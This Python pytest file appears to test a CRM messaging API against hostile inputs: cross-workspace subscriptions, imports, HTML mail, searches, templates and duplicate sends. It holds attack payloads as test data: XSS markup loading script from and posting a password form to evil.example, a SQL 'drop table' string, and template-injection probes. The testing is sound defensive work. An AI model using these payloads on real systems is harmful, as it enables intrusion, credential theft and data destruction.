"""Hostile inputs at what people work with (rows 29, 34–36, 38, 39 of the table): feed, imports, mails, searches."""

import asyncio
import secrets
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

import pytest

from tests.api.conversations.test_message_added import ADDED
from tests.api.conversations.test_presence import SET_TYPING
from tests.api.conversations.test_search_inbox import PAGE
from tests.api.hostile.scene import Row, Rows, Scene, codes_of
from tests.api.templates.test_rendering import RENDER
from tests.factories.conversations import inbound, make_lead, open_conversation
from tests.factories.imports import IMPORT, batch, finished, profile
from tests.factories.inbound import letter, post_mail, worked_on
from tests.factories.mail import add_mailbox
from tests.factories.sending import SEND, messages
from tests.factories.templates import CREATE
from tests.fixtures.feed import FEED, create_tags, feed_cursor
from tests.fixtures.graphql import Socket, open_socket
from tests.fixtures.presence import PRESENCE
from tests.fixtures.processes import eventually

ROWS = Rows()
INBOX = "{ conversations { edges { node { messages(last: 5) { edges { node { body htmlBody } } } } } } }"
HOSTILE_HTML = """<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<p onclick="x()" style="background: url(https://evil.example/pixel)">Hello <b onmouseover=x()>you</b></p>
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><img src=x onerror="alert(3)">
<svg onload="alert(4)"><script>alert(5)</script></svg><style>body { background: url(https://evil.example/p) }</style>
<form action="https://evil.example"><input name="password"></form><a href="javascript:alert(2)">here</a>"""
TRACES = (
    "script",
    "alert",
    "onclick",
    "onmouseover",
    "onerror",
    "onload",
    "svg",
    "style",
    "url(",
    "base",
    "<form",
    "<input",
    "meta",
    "refresh",
    "evil.example",
)
SEARCHES = (
    *("%", "%%", "_", "__", "\\", "\\\\", "'", "'; drop table message; --", '"', "''", "x" * 10_000),
    *("de que a o", "the of and", "&", "& |", "a & b | !c", "!", "!!", "((", "a:*", "<->", ":*", "\0\0", "*"),
)

PROGRAMS = {
    "{{lead.__class__}}": "Line 1, column 3",
    "{{ lead.__class__.__mro__[1].__subclasses__() }}": "Line 1, column 26",
    "{{ 7*7 }}": "Line 1, column 4",
    "{% raw %}": "Line 1, column 1",
    "{% for x in (1..1000000) %}": "Line 1, column 1",
    "{lead.x}": "Line 1, column 1",
    "Hi\n  {{ lead.name": "Line 2, column 3",
    "{{ 'a' * 10000000 }}": "Line 1, column 8",
}


# ── 29: another workspace's conversation ──────────────────────────────────────────────────────────────────────────────
@ROWS(29, "another workspace's conversation, while they write in it")
async def foreign_conversation(scene: Scene) -> None:
    victim, eve = scene.victim, scene.eve
    hers, mine = await open_conversation(eve, scene.doors), await open_conversation(victim, scene.doors)
    after, foreign = await feed_cursor(victim), str(hers.id)
    theirs = {foreign, str(hers.lead_id), str(eve.user_id)}
    writing = asyncio.create_task(keep_writing(scene, hers.id, theirs))
    try:
        async with open_socket(scene.target.api.ws_url, victim.token) as socket, asyncio.timeout(30):
            await eventually(lambda: len(theirs) > 5, what="their first messages")
            await subscribe(socket, "feed", FEED, after=after)
            await subscribe(socket, "all", ADDED, after=after)
            await subscribe(socket, "hers", ADDED, id=foreign, after=after)
            await subscribe(socket, "there", PRESENCE, conversation=foreign)
            await subscribe(socket, "since", FEED, after=await feed_cursor(eve))
            refused = await scene.codes(SET_TYPING, victim.token, id=foreign)
            known = len(theirs)
            await eventually(lambda: len(theirs) > known + 4, what="their next messages")
            own = str(await inbound(victim, scene.doors, mine.id))
            (tag,) = await create_tags(victim, [secrets.token_hex(4)])  # rings for the message too
            heard = await listen(socket, until=(own, tag))
    finally:
        writing.cancel()
        await asyncio.gather(writing, return_exceptions=True)
    assert refused == ["NOT_FOUND"]
    for id, code in (("hers", "NOT_FOUND"), ("there", "NOT_FOUND"), ("since", "BAD_USER_INPUT")):
        ((kind, payload),) = [(one["type"], one["payload"]) for one in heard if one["id"] == id]
        errors = payload if kind == "error" else payload["errors"]
        assert [error["extensions"]["code"] for error in errors] == [code]
    assert not [one for one in heard if any(id in str(one) for id in theirs - {foreign})]
    assert foreign not in str(heard)


async def keep_writing(scene: Scene, conversation_id: Any, written: set[str]) -> None:
    """Ends with its task."""
    for number in count():
        written.add(str(await inbound(scene.eve, scene.doors, conversation_id)))
        if number < 50:  # a workspace has only so many tags
            written.update(await create_tags(scene.eve, [secrets.token_hex(8)]))


async def subscribe(socket: Socket, id: str, document: str, /, **variables: object) -> None:
    payload = {"query": document, "variables": variables}
    await socket.send({"id": id, "type": "subscribe", "payload": payload})


async def listen(socket: Socket, *, until: tuple[str, str]) -> list[dict[str, Any]]:
    """What is told until both are: a message of their own and an event."""
    heard: list[dict[str, Any]] = []
    while not all(one in str(heard) for one in until):
        message = await socket.receive()
        if message["type"] != "complete":
            heard.append(message)
    return heard


# ── 34: imports ───────────────────────────────────────────────────────────────────────────────────────────────────────
@ROWS(34, "an import of 1,001 rows")
async def too_many_rows(scene: Scene) -> None:
    async with scene.cheaply("34: 1,001 rows"):
        given = batch([profile(f"p{n}") for n in range(1_001)])
        payload = await scene.ask(IMPORT, scene.victim.token, input=given)
    assert [(error["code"], error["path"]) for error in payload["errors"]] == [("INVALID", ["leads"])]
    assert await imports(scene) == 0


@ROWS(34, "a row that leads to a script")
async def script_for_a_profile(scene: Scene) -> None:
    urls = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x", "//x")
    rows = [profile(f"p{n}", profileUrl=url) for n, url in enumerate(urls)]
    payload = await scene.ask(IMPORT, scene.victim.token, input=batch([*rows, profile("good")]))
    state = await finished(scene.victim, payload["leadImport"]["id"])
    assert state["counts"] == {"CREATED": 1, "REJECTED": len(urls)}
    assert {error["field"] for error in state["rowErrors"]} == {"profileUrl"}


@ROWS(34, "the same rows twice with one key")
async def same_rows_twice(scene: Scene) -> None:
    given = batch([profile("bia"), profile("caio")])
    token = scene.victim.token
    both = await asyncio.gather(*(scene.ask(IMPORT, token, input=given) for _ in range(2)))
    again = await scene.ask(IMPORT, token, input=given)
    (id,) = {payload["leadImport"]["id"] for payload in (*both, again)}
    assert (await finished(scene.victim, id))["counts"] == {"CREATED": 2}
    assert await imports(scene) == 1


async def imports(scene: Scene) -> int:
    found = await scene.ask("{ leadImports { edges { node { id } } } }", scene.victim.token)
    return len(found["edges"])


# ── 36: mails ─────────────────────────────────────────────────────────────────────────────────────────────────────────
@ROWS(36, "a mail with all that runs in a browser")
async def hostile_mail(scene: Scene) -> None:
    mailbox = await add_mailbox(scene.doors, scene.victim)
    await post_mail(scene.victim.http, mailbox, letter(mailbox.address, html=HOSTILE_HTML))
    await worked_on(scene.doors, scene.victim.workspace_id)
    (talk,) = (await scene.ask(INBOX, scene.victim.token))["edges"]
    (edge,) = talk["node"]["messages"]["edges"]
    html = edge["node"]["htmlBody"]
    assert "<b>you</b>" in html
    assert [trace for trace in TRACES if trace in html.lower()] == []
    assert edge["node"]["body"] == "Quero saber mais."


# ── 38: searches ──────────────────────────────────────────────────────────────────────────────────────────────────────
@ROWS(38, "searches that are code elsewhere")
async def searches(scene: Scene) -> None:
    opened = await open_conversation(scene.victim, scene.doors)
    await inbound(scene.victim, scene.doors, opened.id, body="Nothing of what is looked for.")
    foreign = await open_conversation(scene.eve, scene.doors)
    await inbound(scene.eve, scene.doors, foreign.id, body=" ".join(SEARCHES)[:5_000])
    refused = 0
    for search in SEARCHES:
        answer = await scene.post(PAGE, scene.victim.token, filter={"search": search})
        body = answer.json()
        if codes_of(body):
            assert codes_of(body) == ["BAD_USER_INPUT"], search
            refused += 1
        else:
            assert str(foreign.id) not in answer.text
            assert "conversations" in body["data"], search
    assert 0 < refused < len(SEARCHES)
    async with scene.cheaply("38: a search that is none"):
        assert await scene.codes(PAGE, scene.victim.token, filter={"search": "x" * 10_000}) != []
    assert await scene.ask("{ leads { totalCount } }", scene.victim.token) == {"totalCount": 1}


# ── 35: a template that is a program ──────────────────────────────────────────────────────────────────────────────────
@ROWS(35, "a template that is a program, or is broken")
async def hostile_template(scene: Scene) -> None:
    victim, name = scene.victim, "{{ lead.__class__ }}{{ 7*7 }}"
    for body, place in PROGRAMS.items():
        payload = await scene.ask(CREATE, victim.token, input={"name": "Program", "body": body})
        (error,) = payload["errors"]
        assert (error["code"], error["path"], payload["template"]) == ("INVALID", ["body"], None), body
        assert error["message"].startswith(place), body
    assert await scene.codes(CREATE, victim.token, input={"name": "Big", "body": "x" * 900_000}) == [
        "INVALID"
    ]
    async with scene.cheaply("35: a body of 1 MB"):
        big = {"name": "Big", "body": "x" * 1_000_000}
        assert await scene.codes(CREATE, victim.token, input=big) == ["PAYLOAD_TOO_LARGE"]
    made = await scene.ask(CREATE, victim.token, input={"name": "Fine", "body": "{{ lead.name }}"})
    lead_id = await make_lead(victim, name=name)
    given = {"template": made["template"]["id"], "lead": str(lead_id)}
    assert (await scene.ask(RENDER, victim.token, **given))["body"] == name, "text, never evaluated"


# ── 39: one key ───────────────────────────────────────────────────────────────────────────────────────────────────────
@ROWS(39, "one key of sendMessage from two requests at once, and with another body")
async def one_key(scene: Scene) -> None:
    victim, opened = scene.victim, await open_conversation(scene.victim, scene.doors)
    later = (datetime.now(UTC) + timedelta(days=1)).isoformat()  # nothing leaves
    given = {"conversationId": str(opened.id), "subject": "Offer", "body": "one", "notBefore": later}
    same, other = {**given, "idempotencyKey": "same"}, {**given, "idempotencyKey": "other"}
    both = await asyncio.gather(*(scene.ask(SEND, victim.token, input=same) for _ in range(2)))
    assert [payload["errors"] for payload in both] == [[], []]
    assert len({payload["message"]["id"] for payload in both}) == 1
    assert await scene.codes(SEND, victim.token, input={**same, "body": "two"}) == ["CONFLICT"]
    bodies = ("three", "four")
    rivals = await asyncio.gather(
        *(scene.codes(SEND, victim.token, input={**other, "body": body}) for body in bodies)
    )
    assert sorted(rivals) == [[], ["CONFLICT"]]
    assert len(await messages(victim, opened.id)) == 2


@pytest.mark.parametrize("row", ROWS, ids=str)
async def test_what_people_work_with_is_not_impressed(scene: Scene, row: Row) -> None:
    await ROWS.play(row, scene)
